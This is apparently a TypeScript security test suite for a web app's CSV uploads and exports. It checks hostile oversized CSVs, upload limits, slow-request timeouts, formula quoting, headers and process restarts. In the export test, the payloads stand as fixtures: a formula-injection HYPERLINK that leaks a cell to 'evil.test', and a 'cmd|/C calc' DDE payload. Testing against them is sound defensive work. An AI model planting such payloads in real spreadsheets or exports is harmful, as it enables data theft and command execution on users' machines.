/**
 * Uploads and exports against the whole product (`npm start`'s stack) over HTTP: a hostile CSV (a header
 * of 100,001 columns, 4 MB of commas) is a clear 422 while the web app keeps answering other requests
 * and stays alive; a user's waiting uploads are bounded; a slow upload outlasts the short request
 * timeout that still cuts a slow JSON body; exported cells a spreadsheet would run are quoted; the
 * unsubscribe page keeps its own Referrer-Policy; and a web process killed with SIGKILL is started again.
 */
import http from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ContactResponse, ImportUploadResponse } from '../../../web/lib/api-types';
import { sleep } from '../../helpers';
import { agentA, eventually, Product, type Session } from '../product';

/** Short, so a test can outlast it; a CSV upload gets a second more for every 64 KB it declares. */
const REQUEST_TIMEOUT_SECONDS = 3;

let product: Product;
beforeAll(async () => {
  product = await Product.start('security/uploads', { DRIPLINE_REQUEST_TIMEOUT_SECONDS: String(REQUEST_TIMEOUT_SECONDS) });
});
afterAll(async () => product?.stop());

/** The pid of the web app's process (`node --import tsx scripts/web-server.ts`). */
async function webPid(): Promise<number> {
  const web = (await product.inspect()).processes.filter((p) => p.command.includes('scripts/web-server.ts'));
  expect(web, 'one web process').toHaveLength(1);
  return web[0]!.pid;
}

const alive = (pid: number) => {
  try {
    process.kill(pid, 0);
    return true;
  } catch {
    return false;
  }
};

function uploadCsv(session: Session, csv: string, name = 'people.csv') {
  return fetch(`${product.web}/api/imports?name=${encodeURIComponent(name)}`, {
    method: 'POST',
    headers: { cookie: session.cookie, origin: product.web, 'content-type': 'text/csv' },
    body: csv,
  });
}

/**
 * Sends `body` over a raw HTTP request in `pieces` parts, `pauseMs` apart (a slow client), and resolves
 * to the status and body of the answer; a connection closed without one is status 0.
 */
function slowRequest(path: string, headers: Record<string, string>, body: Buffer, pieces: number, pauseMs: number) {
  return new Promise<{ status: number; text: string }>((resolve) => {
    let responded = false;
    const req = http.request(`${product.web}${path}`, {
      method: 'POST',
      headers: { ...headers, 'content-length': String(body.length), origin: product.web, cookie: product.admin.cookie },
    });
    req.on('response', (res) => {
      responded = true;
      let text = '';
      res.on('data', (c: Buffer) => {
        text += c.toString();
      });
      res.on('end', () => resolve({ status: res.statusCode ?? 0, text }));
      res.on('error', () => resolve({ status: res.statusCode ?? 0, text }));
    });
    // A write after the server closed the connection fails here; the answer it sent first still counts.
    req.on('error', () => responded || resolve({ status: 0, text: '' }));
    void (async () => {
      const size = Math.ceil(body.length / pieces);
      for (let i = 0; i < pieces && !req.destroyed; i++) {
        req.write(body.subarray(i * size, (i + 1) * size));
        await sleep(pauseMs);
      }
      if (!req.destroyed) req.end();
    })();
  });
}

describe('a hostile CSV upload', () => {
  it('is a clear 422 while cheap requests keep being answered, and the web process stays alive', async () => {
    const pid = await webPid();
    const hostile = {
      // 200 KB: the finding's file, accepted before with a 2 MB answer.
      wide: `${Array.from({ length: 100_001 }, (_, i) => `c${i % 10}`).join(',')}\nann@example.test\n`,
      // 4 MB of commas: killed Node with an out-of-memory error.
      commas: `${','.repeat(4 * 1024 * 1024)}\n`,
    };
    for (const [what, csv] of Object.entries(hostile)) {
      let uploading = true;
      const cheap: { status: number; ms: number; duringUpload: boolean }[] = [];
      // Sent in 8 parts over 2 s, so the cheap requests meet the upload whatever the machine's speed.
      const upload = slowRequest('/api/imports?name=hostile.csv', { 'content-type': 'text/csv' }, Buffer.from(csv), 8, 250).then((res) => {
        uploading = false;
        return { status: res.status, body: JSON.parse(res.text || '{}') as { error: { code: string; message: string } } };
      });
      // Cheap requests all along the upload and its preview, and a few after its answer.
      let after = 0;
      while (uploading || after++ < 3) {
        const started = performance.now();
        const duringUpload = uploading;
        const res = await fetch(`${product.web}/api/lists`, { headers: { cookie: product.admin.cookie } });
        await res.arrayBuffer();
        cheap.push({ status: res.status, ms: Math.round(performance.now() - started), duringUpload: duringUpload && uploading });
      }
      const answer = await upload;
      console.log(`[uploads] ${what}: cheap requests answered in ${cheap.map((c) => c.ms).join(', ')} ms`);
      expect(answer.status, what).toBe(422);
      expect(answer.body.error.code, what).toBe('too_many_columns');
      expect(answer.body.error.message, what).toBe('the header has more than 500 columns; at most 500 are accepted: remove unused columns');
      expect(
        cheap.map((c) => c.status),
        what,
      ).toEqual(cheap.map(() => 200));
      // The web app answered others while it took the hostile file in, not only before and after it.
      expect(cheap.filter((c) => c.duringUpload).length, `${what}: cheap requests answered during the upload`).toBeGreaterThan(0);
    }
    expect(await webPid()).toBe(pid);
    expect(alive(pid)).toBe(true);
    expect(product.output).not.toMatch(/web \(pid \d+\) exited/);
  });

  it('a user may have 5 uploads waiting; the 6th is a 429 naming them, and discarding one makes room', async () => {
    await product.createAgent(agentA);
    const session = await product.signIn(agentA);
    const ids: string[] = [];
    for (let i = 0; i < 5; i++) {
      const res = await uploadCsv(session, `email\nann${i}@example.test\n`, `waiting-${i}.csv`);
      expect(res.status).toBe(201);
      ids.push(((await res.json()) as ImportUploadResponse).id);
    }
    const sixth = await uploadCsv(session, 'email\nsix@example.test\n');
    expect(sixth.status).toBe(429);
    expect(((await sixth.json()) as { error: { message: string } }).error.message).toBe(
      'you have 5 uploaded files not started yet (waiting-0.csv, waiting-1.csv, waiting-2.csv, waiting-3.csv, waiting-4.csv), and at most 5 may wait; ' +
        'start or discard one of them first (an upload not started is removed a day after it was uploaded)',
    );
    // The admin's own uploads are counted apart, and an admin may discard anyone's.
    expect((await uploadCsv(product.admin, 'email\nadmin@example.test\n')).status).toBe(201);
    expect((await session.api('DELETE', `/api/imports/${ids[0]}`)).status).toBe(204);
    expect((await session.api('GET', `/api/imports/${ids[0]}`)).status).toBe(404);
    expect((await product.admin.api('DELETE', `/api/imports/${ids[1]}`)).status).toBe(204);
    expect((await uploadCsv(session, 'email\nsix@example.test\n')).status).toBe(201);
  });
});

describe('the import page at the waiting-uploads limit', () => {
  it('lists the waiting uploads with a Discard button each; discarding one lets the upload through', async () => {
    const session = await product.signIn(agentA);
    // Agent A has 4 waiting from the test above; one more reaches the limit.
    expect((await uploadCsv(session, 'email\nfifth@example.test\n', 'fifth.csv')).status).toBe(201);
    const browser = await product.logIn(agentA, '/contacts/import');
    const { page } = browser;
    const pick = () =>
      page.getByTestId('import-file').setInputFiles({ name: 'sixth.csv', mimeType: 'text/csv', buffer: Buffer.from('email\nsixth@example.test\n') });
    await pick();
    await page.getByTestId('import-upload').click();
    await page.getByTestId('import-waiting').waitFor();
    expect(await page.getByTestId('import-error').textContent()).toMatch(/^you have 5 uploaded files not started yet \(.*fifth\.csv\)/);
    const discard = page.locator('[data-testid^="import-discard-"]');
    expect(await discard.count()).toBe(5);
    await discard.last().click();
    await page.waitForFunction(() => document.querySelectorAll('[data-testid^="import-discard-"]').length === 4);
    await page.getByTestId('import-upload').click();
    await page.getByTestId('import-mapping').waitFor();
    await browser.close();
  }, 120_000);
});

describe('request timeouts', () => {
  it(`lets a slow upload take longer than ${REQUEST_TIMEOUT_SECONDS} s, and cuts a JSON body that takes longer`, async () => {
    const rows = Array.from({ length: 20_000 }, (_, i) => `slow${i}@example.test,Person ${i}`);
    const csv = Buffer.from(`email,name\n${rows.join('\n')}\n`);
    // ~600 KB in 20 pieces, 300 ms apart: about 6 s, twice the short limit.
    const upload = await slowRequest('/api/imports?name=slow.csv', { 'content-type': 'text/csv' }, csv, 20, 300);
    expect(upload.status, upload.text).toBe(201);
    expect((JSON.parse(upload.text) as ImportUploadResponse).totalRows).toBe(20_000);

    const json = Buffer.from(JSON.stringify({ name: 'a flow sent slowly', padding: 'x'.repeat(200) }));
    const cut = await slowRequest('/api/flows', { 'content-type': 'application/json' }, json, 10, 1_000);
    expect(cut.status, cut.text).toBe(408);
    expect(cut.text).toContain(`the request body did not arrive within ${REQUEST_TIMEOUT_SECONDS} s`);
  }, 60_000);
});

describe('the contacts export', () => {
  it('quotes every cell a spreadsheet would run as a formula', async () => {
    const evil = '=HYPERLINK("http://evil.test/?leak="&A1,"Click")';
    const created = await product.admin.api<ContactResponse>('POST', '/api/contacts', {
      email: 'formula@example.test',
      name: evil,
      attributes: { company: '@SUM(1+1)*cmd|/C calc!A0', plan: '+1', region: '-1' },
    });
    expect(created.status, created.text).toBe(201);
    const res = await fetch(`${product.web}/api/contacts/export`, { headers: { cookie: product.admin.cookie } });
    expect(res.status).toBe(200);
    const csv = await res.text();
    const header = csv.slice(0, csv.indexOf('\n')).split(',');
    const line = csv.split('\n').find((l) => l.startsWith('formula@example.test'));
    expect(line).toBeDefined();
    expect(line).toContain(`"'=HYPERLINK(""http://evil.test/?leak=""&A1,""Click"")"`);
    expect(line).toContain(`'@SUM(1+1)*cmd|/C calc!A0`);
    expect(header).toEqual(expect.arrayContaining(['company', 'plan', 'region']));
    expect(line).toContain(",'+1");
    expect(line).toContain(",'-1");
    // No cell of the whole export starts with a formula character.
    for (const row of csv.trimEnd().split('\n')) for (const cell of row.split(',')) expect(cell, row).not.toMatch(/^"?[=+\-@\t\r]/);
  });
});

describe('route headers', () => {
  it('keeps the unsubscribe page’s Referrer-Policy: no-referrer over the app-wide same-origin', async () => {
    const unsubscribe = await fetch(`${product.web}/unsubscribe/not-a-real-token`);
    expect(unsubscribe.status).toBe(404);
    expect(unsubscribe.headers.get('referrer-policy')).toBe('no-referrer');
    // The app-wide security headers are still there.
    expect(unsubscribe.headers.get('x-frame-options')).toBe('DENY');
    const login = await fetch(`${product.web}/login`);
    expect(login.headers.get('referrer-policy')).toBe('same-origin');
  });
});

describe('npm start', () => {
  it('starts the web app again when its process is killed, and it answers again', async () => {
    const pid = await webPid();
    process.kill(pid, 'SIGKILL');
    await eventually('the kill to be logged', () =>
      product.output.includes(`[dripline] web (pid ${pid}) exited on its own (SIGKILL)`) ? true : undefined,
    );
    const replacement = await eventually(
      'a new web process',
      async () => {
        const now = (await product.inspect()).processes.filter((p) => p.command.includes('scripts/web-server.ts'));
        return now.length === 1 && now[0]!.pid !== pid ? now[0]!.pid : undefined;
      },
      { timeoutMs: 60_000 },
    );
    const answer = await eventually(
      'the web app to answer again',
      async () => {
        const res = await fetch(`${product.web}/api/lists`, { headers: { cookie: product.admin.cookie } }).catch(() => undefined);
        return res?.status === 200 ? res : undefined;
      },
      { timeoutMs: 120_000 },
    );
    expect(answer.status).toBe(200);
    expect(alive(pid)).toBe(false);
    expect(product.output).toContain(`[dripline] web started again (pid ${replacement})`);
    expect(product.output).not.toContain('stopping everything');
  }, 240_000);
});
